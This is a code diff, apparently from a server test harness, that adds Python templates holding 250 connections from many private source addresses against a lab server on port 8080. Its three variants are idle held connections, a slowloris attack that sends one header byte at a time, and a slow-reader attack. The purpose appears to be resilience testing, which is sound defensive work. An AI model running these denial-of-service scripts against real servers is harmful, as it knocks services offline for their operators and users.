@@ -52,3 +52,39 @@ for number in itertools.count():
         break
     time.sleep(0.001)
 """
+
+# Real connections from real addresses, as many as a small server has room for and again as many; what each does then.
+_HOLDS = f"""
+import itertools
+held, end = [], time.monotonic() + {2 * SECONDS_MAX}
+def hold():
+    one = socket.socket()
+    one.setblocking(False)
+    one.bind((f"10.79.4.{{len(held) % 250 + 1}}", 0))
+    one.connect_ex(("10.78.0.1", 8080))
+    held.append(one)
+for _ in range(250):
+    hold()
+print("attacking", flush=True)
+while time.monotonic() < end:
+    for number, one in enumerate(held):
+        try:
+            ACTION
+        except BlockingIOError:
+            pass
+        except OSError:
+            one.close()
+            held[number] = one = socket.socket()
+            one.setblocking(False)
+            one.bind((f"10.79.4.{{number % 250 + 1}}", 0))
+            one.connect_ex(("10.78.0.1", 8080))
+    time.sleep(0.5)
+"""
+# Nothing is ever sent: whether the connection still stands is looked at without.
+EMPTY = _HOLDS.replace("ACTION", "one.recv(1) or one.getpeername()")
+# The header of a request, a byte at a time.
+SLOWLORIS = _HOLDS.replace("ACTION", 'one.send(b"x")')
+# A request, and its answer is never read.
+SLOW_READER = _HOLDS.replace(
+    "ACTION", 'number in asked or (one.send(b"?\\n"), asked.add(number)); one.getpeername()'
+).replace("held, end", "asked = set(); held, end")
